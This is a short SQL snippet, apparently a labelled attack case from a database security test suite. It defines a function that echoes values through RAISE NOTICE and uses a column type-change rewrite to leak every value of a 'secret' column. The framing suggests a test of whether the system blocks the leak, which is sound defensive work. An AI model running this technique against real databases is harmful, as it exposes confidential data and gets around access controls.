-- Lets the rewriting of a column tell its values.
-- wants: read
-- attack:
CREATE FUNCTION tell(text) RETURNS text LANGUAGE plpgsql AS $$BEGIN RAISE NOTICE '%', $1; RETURN $1; END$$;
ALTER TABLE vlt_mine ALTER secret TYPE text COLLATE "C" USING tell(secret);
